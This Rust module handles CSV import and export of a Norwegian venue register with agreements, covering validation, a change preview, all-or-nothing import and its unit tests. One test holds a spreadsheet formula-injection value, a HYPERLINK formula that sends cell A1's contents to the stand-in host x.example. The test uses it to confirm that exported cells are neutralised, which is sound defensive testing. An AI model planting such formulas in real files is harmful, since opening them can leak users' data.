//! CSV import and export of the venue register with agreements, as Norwegian offices use it:
//! UTF-8 (with or without BOM) or Windows-1252, `;` or `,`, Norwegian or English headers.
//! A file with any bad row is refused whole, listing every problem; nothing is written.

use super::preview::{changed_fields, FieldChange, ImportPreview};
use super::{data_rows, header, parse_yes_no, read_table, spreadsheet_csv, Columns, RowProblem};
use crate::agreements::insert_or_update;
use crate::audit::log;
use crate::venues::{conflicts, find_by_name, find_by_org_number, upsert};
use crate::{require, StoreError, Workspace};
use okort_core::checks::{format_bank_account, format_org_number};
use okort_core::dates::{format_date, parse_date};
use okort_core::i18n::Problem;
use okort_core::money::{format_amount, parse_nok};
use okort_core::{Action, Actor, FieldProblem};
use okort_core::{AgreementInput, CompensationModel, ProgramYear, VenueCategory, VenueInput};
use serde::Serialize;
use std::collections::HashMap;
use ts_rs::TS;

/// What an accepted import did.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
#[serde(rename_all = "camelCase")]
pub struct ImportReport {
    pub venues_created: u32,
    pub venues_updated: u32,
    pub agreements_saved: u32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
enum Col {
    Name,
    Category,
    Address,
    ContactPerson,
    Phone,
    Email,
    OrgNumber,
    BankAccount,
    Active,
    StaffNote,
    Year,
    VisitsPerCard,
    CompanionFree,
    NotCovered,
    Compensation,
    SharePercent,
    HolderPrice,
    CompanionPrice,
    PeriodFrom,
    PeriodTo,
    SignedOn,
}

impl Col {
    const ALL: [Col; 21] = [
        Col::Name,
        Col::Category,
        Col::Address,
        Col::ContactPerson,
        Col::Phone,
        Col::Email,
        Col::OrgNumber,
        Col::BankAccount,
        Col::Active,
        Col::StaffNote,
        Col::Year,
        Col::VisitsPerCard,
        Col::CompanionFree,
        Col::NotCovered,
        Col::Compensation,
        Col::SharePercent,
        Col::HolderPrice,
        Col::CompanionPrice,
        Col::PeriodFrom,
        Col::PeriodTo,
        Col::SignedOn,
    ];

    /// The Norwegian header written on export; the first alias.
    fn header(self) -> &'static str {
        self.aliases()[0]
    }

    fn aliases(self) -> &'static [&'static str] {
        match self {
            Col::Name => &["navn", "name", "brukersted", "venue"],
            Col::Category => &["kategori", "category"],
            Col::Address => &["adresse", "address"],
            Col::ContactPerson => &["kontaktperson", "contact_person", "contact"],
            Col::Phone => &["telefon", "phone", "tlf"],
            Col::Email => &["epost", "email", "e-post", "e-mail"],
            Col::OrgNumber => &[
                "orgnr",
                "org_number",
                "organisasjonsnummer",
                "organization_number",
            ],
            Col::BankAccount => &["kontonummer", "bank_account", "konto", "account"],
            Col::Active => &["aktiv", "active"],
            Col::StaffNote => &["merknad", "staff_note", "note", "merknad_til_ansatte"],
            Col::Year => &["år", "year", "programår", "program_year"],
            Col::VisitsPerCard => &["besøk_per_kort", "visits_per_card", "besøk", "visits"],
            Col::CompanionFree => &["ledsager_gratis", "companion_free", "ledsager", "companion"],
            Col::NotCovered => &["dekkes_ikke", "not_covered", "unntak"],
            Col::Compensation => &["kompensasjon", "compensation", "refusjon"],
            Col::SharePercent => &["andel_prosent", "share_percent", "andel", "share"],
            Col::HolderPrice => &["pris_kortholder", "holder_price", "pris"],
            Col::CompanionPrice => &["pris_ledsager", "companion_price"],
            Col::PeriodFrom => &["avtale_fra", "agreement_from", "period_from", "fra"],
            Col::PeriodTo => &["avtale_til", "agreement_to", "period_to", "til"],
            Col::SignedOn => &["signert", "signed_on", "signed", "signeringsdato"],
        }
    }

    /// The column's place among [`Col::ALL`], as [`Columns`] counts them.
    fn index(self) -> usize {
        Col::ALL.iter().position(|c| *c == self).unwrap_or(0)
    }

    /// Every column's accepted headers, in the order of [`Col::ALL`].
    fn known() -> Vec<&'static [&'static str]> {
        Col::ALL.iter().map(|c| c.aliases()).collect()
    }

    /// The column that carries a validated field.
    fn for_field(field: &str) -> Col {
        match field {
            "category" => Col::Category,
            "address" => Col::Address,
            "contactPerson" => Col::ContactPerson,
            "phone" => Col::Phone,
            "email" => Col::Email,
            "orgNumber" => Col::OrgNumber,
            "bankAccount" => Col::BankAccount,
            "staffNote" => Col::StaffNote,
            "visitsPerCard" => Col::VisitsPerCard,
            "notCovered" => Col::NotCovered,
            "sharePercent" => Col::SharePercent,
            "holderPriceOre" => Col::HolderPrice,
            "companionPriceOre" => Col::CompanionPrice,
            "periodFrom" => Col::PeriodFrom,
            "periodTo" => Col::PeriodTo,
            _ => Col::Name,
        }
    }
}

/// One data row, parsed but not yet checked against the workspace.
struct ParsedRow {
    row: usize,
    venue: VenueInput,
    agreement: Option<(i32, AgreementInput)>,
}

struct Reader<'a> {
    columns: &'a Columns,
    known: &'a [&'a [&'a str]],
    record: &'a [String],
    row: usize,
    problems: Vec<RowProblem>,
}

impl Reader<'_> {
    fn text(&self, col: Col) -> String {
        self.columns.cell(self.record, col.index())
    }

    fn name(&self, col: Col) -> String {
        self.columns.name(col.index(), self.known)
    }

    fn problem(&mut self, col: Col, problem: Problem) {
        let column = self.name(col);
        self.problems.push(RowProblem {
            row: self.row,
            column,
            problem,
        });
    }

    /// Parses a non-empty cell with `parse`, recording a problem made by `bad` on failure.
    fn parse<T>(
        &mut self,
        col: Col,
        parse: impl Fn(&str) -> Option<T>,
        bad: impl Fn(String) -> Problem,
    ) -> Option<T> {
        let value = self.text(col);
        if value.is_empty() {
            return None;
        }
        let parsed = parse(&value);
        if parsed.is_none() {
            self.problem(col, bad(value));
        }
        parsed
    }

    fn yes_no(&mut self, col: Col, default: bool) -> bool {
        self.parse(col, parse_yes_no, |value| Problem::NotYesNo { value })
            .unwrap_or(default)
    }

    fn date(&mut self, col: Col) -> Option<chrono::NaiveDate> {
        self.parse(col, parse_date, |value| Problem::NotADate { value })
    }

    fn amount(&mut self, col: Col) -> i64 {
        self.parse(col, parse_nok, |value| Problem::NotAnAmount { value })
            .unwrap_or(0)
    }
}

/// "5" → Some(Some(5)); "fri", "free", "ubegrenset", "unlimited" → Some(None).
fn parse_visits(s: &str) -> Option<Option<u8>> {
    let key = s.trim().to_lowercase();
    if [
        "fri",
        "fri inngang",
        "fri inngang hele året", // not a sentence: accepted in the cell
        "free",
        "free entry",
        "ubegrenset",
        "unlimited",
    ]
    .contains(&key.as_str())
    {
        return Some(None);
    }
    key.parse::<u8>().ok().map(Some)
}

/// A venue updated from a file keeps what the file has no column for: a register without
/// bank accounts does not blank the bank accounts.
/// The fields of a registered venue a row changes, by the file's column names.
fn venue_changes(
    name: &dyn Fn(Col) -> String,
    old: &okort_core::Venue,
    new: &VenueInput,
) -> Vec<FieldChange> {
    let yes_no = |b: bool| if b { "ja" } else { "nei" }.to_string();
    changed_fields(vec![
        (name(Col::Name), old.name.clone(), new.name.clone()),
        (
            name(Col::Category),
            old.category.label_nb().to_string(),
            new.category.label_nb().to_string(),
        ),
        (name(Col::Address), old.address.clone(), new.address.clone()),
        (
            name(Col::ContactPerson),
            old.contact_person.clone(),
            new.contact_person.clone(),
        ),
        (name(Col::Phone), old.phone.clone(), new.phone.clone()),
        (name(Col::Email), old.email.clone(), new.email.clone()),
        (
            name(Col::OrgNumber),
            format_org_number(&old.org_number),
            format_org_number(&new.org_number),
        ),
        (
            name(Col::BankAccount),
            format_bank_account(&old.bank_account),
            format_bank_account(&new.bank_account),
        ),
        (name(Col::Active), yes_no(old.active), yes_no(new.active)),
        (
            name(Col::StaffNote),
            old.staff_note.clone(),
            new.staff_note.clone(),
        ),
    ])
}

/// The fields of a registered agreement a row changes, by the file's column names.
fn agreement_changes(
    name: &dyn Fn(Col) -> String,
    old: &okort_core::Agreement,
    new: &AgreementInput,
) -> Vec<FieldChange> {
    let yes_no = |b: bool| if b { "ja" } else { "nei" }.to_string();
    let date = |d: Option<chrono::NaiveDate>| d.map(format_date).unwrap_or_default();
    let visits = |v: Option<u8>| v.map(|v| v.to_string()).unwrap_or_default();
    changed_fields(vec![
        (
            name(Col::VisitsPerCard),
            visits(old.visits_per_card),
            visits(new.visits_per_card),
        ),
        (
            name(Col::CompanionFree),
            yes_no(old.companion_free),
            yes_no(new.companion_free),
        ),
        (
            name(Col::NotCovered),
            old.not_covered.clone(),
            new.not_covered.clone(),
        ),
        (
            name(Col::Compensation),
            old.compensation.label_nb().to_string(),
            new.compensation.label_nb().to_string(),
        ),
        (
            name(Col::SharePercent),
            old.share_percent.to_string(),
            new.share_percent.to_string(),
        ),
        (
            name(Col::HolderPrice),
            format_amount(old.holder_price_ore),
            format_amount(new.holder_price_ore),
        ),
        (
            name(Col::CompanionPrice),
            format_amount(old.companion_price_ore),
            format_amount(new.companion_price_ore),
        ),
        (
            name(Col::PeriodFrom),
            date(old.period_from),
            date(new.period_from),
        ),
        (
            name(Col::PeriodTo),
            date(old.period_to),
            date(new.period_to),
        ),
        (
            name(Col::SignedOn),
            date(old.signed_on),
            date(new.signed_on),
        ),
    ])
}

fn keep_unnamed(columns: &Columns, venue: &mut VenueInput, old: &okort_core::Venue) {
    let missing = |c: Col| !columns.has(c.index());
    if missing(Col::Category) {
        venue.category = old.category;
    }
    if missing(Col::Address) {
        venue.address.clone_from(&old.address);
    }
    if missing(Col::ContactPerson) {
        venue.contact_person.clone_from(&old.contact_person);
    }
    if missing(Col::Phone) {
        venue.phone.clone_from(&old.phone);
    }
    if missing(Col::Email) {
        venue.email.clone_from(&old.email);
    }
    if missing(Col::OrgNumber) {
        venue.org_number.clone_from(&old.org_number);
    }
    if missing(Col::BankAccount) {
        venue.bank_account.clone_from(&old.bank_account);
    }
    if missing(Col::Active) {
        venue.active = old.active;
    }
    if missing(Col::StaffNote) {
        venue.staff_note.clone_from(&old.staff_note);
    }
}

fn parse_row(
    columns: &Columns,
    known: &[&[&str]],
    record: &[String],
    row: usize,
) -> (ParsedRow, Vec<RowProblem>) {
    let mut r = Reader {
        columns,
        known,
        record,
        row,
        problems: Vec::new(),
    };
    let category = r
        .parse(Col::Category, VenueCategory::parse, |value| Problem::Unknown {
            value,
            allowed: "kino, bad, lekeland, forestilling, kurs dans, kurs musikk, kurs teater, kurs idrett, annet",
        })
        .unwrap_or(VenueCategory::Other);
    let venue = VenueInput {
        id: None,
        name: r.text(Col::Name),
        category,
        address: r.text(Col::Address),
        contact_person: r.text(Col::ContactPerson),
        phone: r.text(Col::Phone),
        email: r.text(Col::Email),
        org_number: r.text(Col::OrgNumber),
        bank_account: r.text(Col::BankAccount),
        active: r.yes_no(Col::Active, true),
        staff_note: r.text(Col::StaffNote),
    }
    .normalized();
    for p in venue.validate() {
        r.problem(Col::for_field(p.field), p.problem);
    }
    let agreement_cols = &Col::ALL[11..];
    let year_text = r.text(Col::Year);
    let agreement = if year_text.is_empty() {
        if agreement_cols.iter().any(|c| !r.text(*c).is_empty()) {
            r.problem(Col::Year, Problem::Required);
        }
        None
    } else {
        let year = r.parse(
            Col::Year,
            |s| s.parse::<i32>().ok(),
            |value| Problem::NotANumber { value },
        );
        let visits = match r.text(Col::VisitsPerCard).as_str() {
            "" => {
                r.problem(Col::VisitsPerCard, Problem::Required);
                Some(5)
            }
            _ => r
                .parse(Col::VisitsPerCard, parse_visits, |_| Problem::VisitsPerCard)
                .unwrap_or(Some(5)),
        };
        let compensation = match r.text(Col::Compensation).as_str() {
            "" => {
                r.problem(Col::Compensation, Problem::Required);
                None
            }
            _ => r.parse(Col::Compensation, CompensationModel::parse, |value| {
                Problem::Unknown {
                    value,
                    allowed: "brukerstedet dekker selv, full refusjon, andel",
                }
            }),
        };
        let share = r
            .parse(
                Col::SharePercent,
                |s| s.trim_end_matches('%').trim().parse::<u8>().ok(),
                |value| Problem::NotANumber { value },
            )
            .unwrap_or(0);
        let input = AgreementInput {
            venue_id: 0,
            year_id: 0,
            visits_per_card: visits,
            companion_free: r.yes_no(Col::CompanionFree, true),
            not_covered: r.text(Col::NotCovered),
            compensation: compensation.unwrap_or(CompensationModel::FullRefund),
            share_percent: share,
            holder_price_ore: r.amount(Col::HolderPrice),
            companion_price_ore: r.amount(Col::CompanionPrice),
            period_from: r.date(Col::PeriodFrom),
            period_to: r.date(Col::PeriodTo),
            signed_on: r.date(Col::SignedOn),
        }
        .normalized();
        year.map(|y| (y, input))
    };
    let problems = std::mem::take(&mut r.problems);
    (
        ParsedRow {
            row,
            venue,
            agreement,
        },
        problems,
    )
}

fn stand_in_year(year: i32) -> ProgramYear {
    let d = |m, d| chrono::NaiveDate::from_ymd_opt(year, m, d).unwrap_or_default();
    ProgramYear {
        id: 0,
        year,
        valid_from: d(1, 1),
        valid_to: d(12, 31),
        card_quota: 1,
        age_min: 5,
        age_max: 18,
        companion_free: true,
        status: okort_core::YearStatus::Planning,
        family_cap: None,
    }
}

/// The venues and agreements a file holds, matched with the register; nothing written.
struct VenuePlan {
    /// (row, venue as it will be saved, the registered venue it updates)
    venues: Vec<(usize, VenueInput, Option<okort_core::Venue>)>,
    /// (index into `venues`, row, year, agreement)
    agreements: Vec<(usize, usize, i32, AgreementInput)>,
    problems: Vec<RowProblem>,
    /// The file's name for each column of [`Col::ALL`].
    names: Vec<String>,
}

impl Workspace {
    /// Reads the file and matches it with the register: venues by organisation number, then by
    /// name; agreements by venue and year.
    fn plan_venues(&self, bytes: &[u8]) -> Result<VenuePlan, StoreError> {
        let table = read_table(bytes)?;
        let (header_row, header) = header(&table)?;
        let known = Col::known();
        let columns =
            Columns::match_header((header_row, header), &known, &[Col::Name.index()], true)?;
        let mut problems = Vec::new();
        let mut rows = Vec::new();
        for (row, record) in data_rows(&table, header_row) {
            let used = record
                .iter()
                .rposition(|c| !c.trim().is_empty())
                .map_or(0, |i| i + 1);
            if used > header.len() {
                problems.push(RowProblem {
                    row,
                    column: String::new(),
                    problem: Problem::FieldCount {
                        found: used,
                        expected: header.len(),
                    },
                });
                continue;
            }
            let (parsed, row_problems) = parse_row(&columns, &known, record, row);
            problems.extend(row_problems);
            rows.push(parsed);
        }
        let column_name = |col: Col| columns.name(col.index(), &known);
        let mut add = |row: usize, col: Col, problem: Problem| {
            problems.push(RowProblem {
                row,
                column: column_name(col),
                problem,
            });
        };

        // Check each row against the workspace and against the rows above it.
        let mut years: HashMap<i32, Option<ProgramYear>> = HashMap::new();
        let mut venues: Vec<(usize, VenueInput, Option<okort_core::Venue>)> = Vec::new();
        let mut by_key: HashMap<String, usize> = HashMap::new();
        let mut by_name: HashMap<String, String> = HashMap::new();
        let mut seen_agreements: HashMap<(String, i32), usize> = HashMap::new();
        let mut agreements: Vec<(usize, usize, i32, AgreementInput)> = Vec::new();
        for parsed in rows {
            let key = if parsed.venue.org_number.is_empty() {
                parsed.venue.name.to_lowercase()
            } else {
                parsed.venue.org_number.clone()
            };
            let index = match by_key.get(&key) {
                Some(&index) => {
                    let (first_row, first, _) = &venues[index];
                    if (VenueInput {
                        id: None,
                        ..first.clone()
                    }) != parsed.venue
                    {
                        add(
                            parsed.row,
                            Col::Name,
                            Problem::VenueDiffers {
                                first_row: *first_row,
                            },
                        );
                    }
                    index
                }
                None => {
                    let mut venue = parsed.venue.clone();
                    let existing = match find_by_org_number(&self.conn, &venue.org_number)? {
                        Some(v) => Some(v),
                        None => find_by_name(&self.conn, &venue.name)?,
                    };
                    if let Some(old) = &existing {
                        keep_unnamed(&columns, &mut venue, old);
                    }
                    venue.id = existing.as_ref().map(|v| v.id);
                    for p in conflicts(&self.conn, &venue)? {
                        let col = match p {
                            Problem::DuplicateVenueName => Col::Name,
                            _ => Col::OrgNumber,
                        };
                        add(parsed.row, col, p);
                    }
                    let lower = venue.name.to_lowercase();
                    if by_name.get(&lower).is_some_and(|k| *k != key) {
                        add(parsed.row, Col::Name, Problem::DuplicateVenueName);
                    }
                    by_name.insert(lower, key.clone());
                    by_key.insert(key.clone(), venues.len());
                    venues.push((parsed.row, venue, existing));
                    venues.len() - 1
                }
            };
            let Some((year_number, mut agreement)) = parsed.agreement else {
                continue;
            };
            if let Some(first_row) = seen_agreements.insert((key, year_number), parsed.row) {
                add(parsed.row, Col::Year, Problem::DuplicateRow { first_row });
            }
            if let std::collections::hash_map::Entry::Vacant(e) = years.entry(year_number) {
                e.insert(self.year_by_number(year_number)?);
            }
            let year = match years.get(&year_number).and_then(Option::as_ref) {
                Some(year) => year.clone(),
                None => {
                    add(
                        parsed.row,
                        Col::Year,
                        Problem::UnknownYear { year: year_number },
                    );
                    // Still check the other cells, against the year's default dates.
                    stand_in_year(year_number)
                }
            };
            agreement.year_id = year.id;
            for FieldProblem { field, problem } in agreement.validate(&year) {
                add(parsed.row, Col::for_field(field), problem);
            }
            agreements.push((index, parsed.row, year_number, agreement));
        }
        problems.sort_by_key(|p| p.row);
        let names = (0..Col::ALL.len())
            .map(|c| columns.name(c, &known))
            .collect();
        Ok(VenuePlan {
            venues,
            agreements,
            problems,
            names,
        })
    }

    /// What importing the file would do, row by row; nothing is written.
    pub fn preview_venues_import(
        &self,
        actor: &Actor,
        bytes: &[u8],
    ) -> Result<ImportPreview, StoreError> {
        require(actor, Action::ManageVenues)?;
        let plan = self.plan_venues(bytes)?;
        let name = |c: Col| plan.names[c.index()].clone();
        let mut preview = ImportPreview {
            refused: plan.problems.clone(),
            ..ImportPreview::default()
        };
        for (row, venue, old) in &plan.venues {
            let before = old.as_ref().map(|old| venue_changes(&name, old, venue));
            preview.add(*row, venue.name.clone(), before);
        }
        for (index, row, year, agreement) in &plan.agreements {
            let (_, venue, _) = &plan.venues[*index];
            let old = match venue.id {
                Some(id) => self
                    .agreements_for_venue(id)?
                    .into_iter()
                    .find(|a| a.year_id == agreement.year_id),
                None => None,
            };
            let before = old.map(|old| agreement_changes(&name, &old, agreement));
            preview.add(*row, format!("{} – {year}", venue.name), before);
        }
        preview.rows.sort_by_key(|r| r.row);
        Ok(preview)
    }

    /// Imports venues with their agreements from a CSV or .xlsx file as
    /// [`Workspace::preview_venues_import`] showed it: all in one transaction, or nothing when
    /// any row is refused.
    pub fn import_venues_csv(
        &mut self,
        actor: &Actor,
        bytes: &[u8],
    ) -> Result<ImportReport, StoreError> {
        require(actor, Action::ManageVenues)?;
        // Planned inside the write transaction: what another desk saved meanwhile is matched.
        let tx = self.conn.unchecked_transaction()?;
        let VenuePlan {
            venues,
            agreements,
            problems,
            ..
        } = self.plan_venues(bytes)?;
        if !problems.is_empty() {
            return Err(StoreError::Import(problems));
        }
        let mut report = ImportReport {
            venues_created: 0,
            venues_updated: 0,
            agreements_saved: 0,
        };
        let mut ids = Vec::with_capacity(venues.len());
        for (_, venue, _) in &venues {
            if venue.id.is_some() {
                report.venues_updated += 1;
            } else {
                report.venues_created += 1;
            }
            ids.push(upsert(&tx, venue)?);
        }
        for (index, _, _, mut agreement) in agreements {
            agreement.venue_id = ids[index];
            insert_or_update(&tx, &agreement)?;
            report.agreements_saved += 1;
        }
        let detail = format!(
            "{} {} {}",
            report.venues_created, report.venues_updated, report.agreements_saved
        );
        log(&tx, actor, "venue.import", "venues", None, &detail)?;
        tx.commit()?;
        Ok(report)
    }

    /// Exports every venue with its agreements: one row per agreement, one row for a venue
    /// without any. UTF-8 with BOM and `;`, as Norwegian Excel opens it.
    pub fn export_venues_csv(&self) -> Result<Vec<u8>, StoreError> {
        let yes_no = |b: bool| if b { "ja" } else { "nei" }.to_string();
        let date = |d: Option<chrono::NaiveDate>| d.map(format_date).unwrap_or_default();
        let mut rows: Vec<Vec<String>> = Vec::new();
        for v in self.list_venues()? {
            let venue_cells = vec![
                v.name.clone(),
                v.category.label_nb().to_string(),
                v.address.clone(),
                v.contact_person.clone(),
                v.phone.clone(),
                v.email.clone(),
                format_org_number(&v.org_number),
                format_bank_account(&v.bank_account),
                yes_no(v.active),
                v.staff_note.clone(),
            ];
            let mut agreements = self.agreements_for_venue(v.id)?;
            agreements.reverse();
            if agreements.is_empty() {
                let mut row = venue_cells.clone();
                row.resize(Col::ALL.len(), String::new());
                rows.push(row);
            }
            for a in agreements {
                let mut row = venue_cells.clone();
                row.extend([
                    a.year.to_string(),
                    a.visits_per_card
                        .map(|n| n.to_string())
                        .unwrap_or_else(|| "fri".into()),
                    yes_no(a.companion_free),
                    a.not_covered,
                    a.compensation.label_nb().to_string(),
                    a.share_percent.to_string(),
                    format_amount(a.holder_price_ore),
                    format_amount(a.companion_price_ore),
                    date(a.period_from),
                    date(a.period_to),
                    date(a.signed_on),
                ]);
                rows.push(row);
            }
        }
        let header: Vec<&str> = Col::ALL.iter().map(|c| c.header()).collect();
        spreadsheet_csv(&header, &rows)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::workspace;
    use okort_core::ProgramYearInput;

    const HEADER: &str = "navn;kategori;orgnr;kontonummer;år;besøk_per_kort;kompensasjon;andel_prosent;pris_kortholder;pris_ledsager";

    fn with_years() -> (tempfile::TempDir, Workspace) {
        let (dir, ws) = workspace();
        for y in [2025, 2026] {
            ws.save_year(
                &Actor::command_line(),
                ProgramYearInput::new_for(y).expect("y"),
            )
            .expect("year");
        }
        (dir, ws)
    }

    #[test]
    fn a_venue_named_as_a_formula_is_exported_as_text_and_read_back_as_named() {
        let (_dir, mut ws) = with_years();
        let name = r#"=HYPERLINK("http://x.example/?d="&A1;"Klikk")"#;
        let csv = format!(
            "{HEADER}\n\"{}\";kino;;;2026;5;full refusjon;;110,00;110,00\n",
            name.replace('"', "\"\"")
        );
        ws.import_venues_csv(&Actor::command_line(), csv.as_bytes())
            .expect("import");
        let out = String::from_utf8(ws.export_venues_csv().expect("export")).expect("utf8");
        let line = out.lines().nth(1).expect("row");
        assert!(line.starts_with("\"'=HYPERLINK("), "{line}");
        for cell in ["+47 99 99 99 99", "-1+A1", "@SUM(A1)", "\tx"] {
            assert!(
                crate::exchange::neutralise(cell).starts_with('\''),
                "{cell}"
            );
        }
        assert_eq!(
            crate::exchange::neutralise("-5"),
            "-5",
            "a number stays a number"
        );
        // Read back, it is the same venue: matched, not a new one named with the quote.
        let again = ws
            .import_venues_csv(&Actor::command_line(), out.as_bytes())
            .expect("re-import");
        assert_eq!((again.venues_created, again.venues_updated), (0, 1));
        assert_eq!(ws.list_venues().expect("venues")[0].name, name);
    }

    #[test]
    fn a_register_without_some_columns_leaves_those_fields_of_known_venues_as_they_are() {
        let (_dir, mut ws) = with_years();
        let full = "navn;kategori;orgnr;kontonummer;adresse;telefon\n\
                    Kino Sentrum;kino;974 760 673;8601.11.17947;Storgata 2;+47 99 99 99 99\n";
        ws.import_venues_csv(&Actor::command_line(), full.as_bytes())
            .expect("first");
        let names = "navn;telefon\nKino Sentrum;+47 22 22 22 22\n";
        let preview = ws
            .preview_venues_import(&Actor::command_line(), names.as_bytes())
            .expect("preview");
        assert_eq!((preview.new, preview.changed, preview.unchanged), (0, 1, 0));
        assert_eq!(
            preview.rows[0].fields,
            vec![crate::exchange::FieldChange {
                column: "telefon".into(),
                before: "+47 99 99 99 99".into(),
                after: "+47 22 22 22 22".into()
            }],
            "only the phone changes: the columns not in the file are kept"
        );
        assert_eq!(
            ws.list_venues().expect("venues")[0].phone,
            "+47 99 99 99 99"
        );
        let report = ws
            .import_venues_csv(&Actor::command_line(), names.as_bytes())
            .expect("second");
        assert_eq!((report.venues_created, report.venues_updated), (0, 1));
        let v = &ws.list_venues().expect("venues")[0];
        assert_eq!(v.bank_account, "86011117947", "no column, kept");
        assert_eq!(v.org_number, "974760673");
        assert_eq!(v.address, "Storgata 2");
        assert_eq!(v.category, VenueCategory::Cinema);
        assert_eq!(v.phone, "+47 22 22 22 22", "the column it has, changed");
    }

    #[test]
    fn a_norwegian_excel_file_with_semicolons_and_bom_is_imported() {
        let (_dir, mut ws) = with_years();
        let csv = format!(
            "\u{feff}{HEADER}\nKino Sentrum;kino;974 760 673;8601.11.17947;2026;5;full refusjon;;110,00;110,00\nBadet;bad;;;2026;fri;brukerstedet dekker selv;;0;0\n"
        );
        let report = ws
            .import_venues_csv(&Actor::command_line(), csv.as_bytes())
            .expect("import");
        assert_eq!(
            report,
            ImportReport {
                venues_created: 2,
                venues_updated: 0,
                agreements_saved: 2
            }
        );
        let venues = ws.list_venues().expect("list");
        assert_eq!(venues[1].org_number, "974760673");
        let a = ws.agreements_for_venue(venues[1].id).expect("agreements");
        assert_eq!((a[0].holder_price_ore, a[0].share_percent), (11_000, 100));
        let bad = ws.agreements_for_venue(venues[0].id).expect("agreements");
        assert_eq!(bad[0].visits_per_card, None, "«fri» is free entry all year");
    }

    #[test]
    fn an_english_comma_file_in_windows_1252_is_imported() {
        let (_dir, mut ws) = with_years();
        let text = "name,category,year,visits_per_card,compensation,share_percent,holder_price\n\"Bæreia Kulturhus, scene\",performance,2025,5,share,50,150.00\n";
        let (bytes, _, _) = encoding_rs::WINDOWS_1252.encode(text);
        assert!(
            std::str::from_utf8(&bytes).is_err(),
            "the test file is really Windows-1252"
        );
        ws.import_venues_csv(&Actor::command_line(), &bytes)
            .expect("import");
        let v = &ws.list_venues().expect("list")[0];
        assert_eq!(v.name, "Bæreia Kulturhus, scene");
        assert_eq!(v.category, VenueCategory::Performance);
        assert_eq!(
            ws.agreements_for_venue(v.id).expect("a")[0].share_percent,
            50
        );
    }

    #[test]
    fn a_file_with_bad_rows_is_refused_whole_listing_every_problem() {
        let (_dir, mut ws) = with_years();
        let csv = format!(
            "{HEADER}\nGod rad;kino;;;2026;5;full refusjon;;100;100\n;bowling;974760674;;2026;5;full;;100;100\nTredje;kino;;;2031;0;andel;;-5;abc\n"
        );
        let Err(StoreError::Import(problems)) =
            ws.import_venues_csv(&Actor::command_line(), csv.as_bytes())
        else {
            panic!("the file must be refused");
        };
        let mut found: Vec<(usize, &str)> = problems
            .iter()
            .map(|p| (p.row, p.column.as_str()))
            .collect();
        found.sort();
        assert_eq!(
            found,
            [
                (3, "kategori"),
                (3, "navn"),
                (3, "orgnr"),
                (4, "andel_prosent"),
                (4, "besøk_per_kort"),
                (4, "pris_kortholder"),
                (4, "pris_ledsager"),
                (4, "år"),
            ]
        );
        let unknown_year = problems
            .iter()
            .find(|p| p.column == "år")
            .expect("year problem");
        assert!(unknown_year.message(okort_core::Lang::Nb).contains("2031"));
        assert!(
            ws.list_venues().expect("list").is_empty(),
            "nothing is written"
        );
    }
}
